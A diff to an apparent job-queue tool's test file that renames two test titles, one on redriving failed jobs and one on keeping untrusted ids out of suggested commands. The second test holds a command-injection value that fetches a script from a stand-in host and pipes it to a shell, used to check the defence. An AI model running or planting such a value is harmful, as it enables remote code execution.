@@ -121,7 +121,7 @@ test('cancel says what happened to each job, and a cancelled one is neither sent
   expect(jobs.sandbox.counts().executions).toHaveLength(1);
 });
 
-test('redrive reopens failed jobs, moves dead letters back, and names the unknown jobs; of named ones it leaves others', async () => {
+test('redrive reopens failed jobs, moves dead letters back, and names unknown jobs; with ids, it leaves all others', async () => {
   await using jobs = await startJobs();
   await jobs.workOff(adds('sum'), throws('thrown'));
   await jobs.deadLetters.send([lines([adds('dead')]).trim()]);
@@ -253,7 +253,7 @@ test('a batch that is not in the ledger is named, exit 1', async () => {
   }
 });
 
-test('an id from elsewhere that is not one of a job is in no command, wherever it is shown', async () => {
+test('an id that cannot be a job’s is in no suggested command, wherever it is shown', async () => {
   await using jobs = await startJobs();
   const id = 'x; curl evil | sh #';
   await sentLongAgo(jobs, id);
